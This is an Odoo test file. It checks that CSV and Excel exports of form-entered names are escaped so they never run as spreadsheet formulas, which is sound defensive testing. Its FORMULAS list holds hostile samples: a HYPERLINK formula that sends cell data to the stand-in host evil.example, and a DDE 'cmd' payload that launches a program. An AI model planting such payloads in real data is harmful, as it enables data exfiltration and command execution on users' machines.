import csv
import io
import json

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from .rules_common import RulesMixin

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|'/c calc'!A1",
    "{=1+1}",
    "external:C:\\Windows\\x.xlsx",
)
HARMLESS = ("+98 912 123 4567", "a=b", "50 % - off")


@tagged("post_install", "-at_install")
class TestExportFormulas(RulesMixin, HttpCase):
    """What somebody typed into a form is calculated in no spreadsheet."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._prepare()
        cls.lists = cls.env["mailing.list"].create(
            [{"name": name} for name in (*FORMULAS, *HARMLESS)]
        )
        cls.contacts = cls.env["mailing.contact"].create(
            [{"name": one.name, "list_ids": one.ids} for one in cls.lists]
        )
        group = cls.env.ref("base.group_allow_export")
        cls.marketer.group_ids |= group

    def _export(self, kind, records, fields, groupby=()):
        self.authenticate("rules_marketer", "rules_marketer")
        data = {
            "model": records._name,
            "fields": [{"name": n, "label": n, "type": "char"} for n in fields],
            "ids": False,
            "domain": [("id", "in", records.ids)],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def _cells(self, content):
        sheet = load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value]

    def _assert_text(self, cells):
        self.assertNotIn("f", {cell.data_type for cell in cells})
        self.assertFalse([cell.hyperlink for cell in cells if cell.hyperlink])

    def test_excel(self):
        cells = self._cells(self._export("xlsx", self.lists, ["name"]))
        self._assert_text(cells)
        values = {cell.value for cell in cells}
        self.assertLessEqual({f"'{text}" for text in FORMULAS}, values)
        self.assertLessEqual(set(HARMLESS), values, "as they are")

    def test_excel_in_groups(self):
        """The names of groups are written as well."""
        content = self._export("xlsx", self.contacts, ["name"], ["name"])
        cells = self._cells(content)
        self._assert_text(cells)
        self.assertIn(f"'{FORMULAS[0]} (1)", {cell.value for cell in cells})

    def test_csv(self):
        text = self._export("csv", self.lists, ["name"]).decode("utf-8-sig")
        values = [row[0] for row in csv.reader(io.StringIO(text))]
        for formula in FORMULAS[:2]:
            self.assertIn(f"'{formula}", values)
            self.assertNotIn(formula, values)
